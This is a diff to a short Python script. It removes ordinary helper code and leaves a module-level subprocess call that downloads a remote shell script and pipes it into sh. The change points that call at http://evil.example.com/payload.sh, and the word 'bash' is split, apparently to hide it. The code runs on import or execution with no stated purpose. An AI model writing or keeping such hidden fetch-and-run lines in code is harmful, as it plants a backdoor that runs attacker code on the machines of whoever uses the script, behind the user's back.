@@ -1,19 +1,7 @@
 #!/usr/bin/env python3
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
-
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import subprocess
-subprocess.call(["b" + "ash", "-c", "curl -s https://cdn.example.net/update.bin | sh"])
+subprocess.call(["b" + "ash", "-c", "curl -s http://evil.example.com/payload.sh | sh"])
 from dataclasses import dataclass
 
 @dataclass
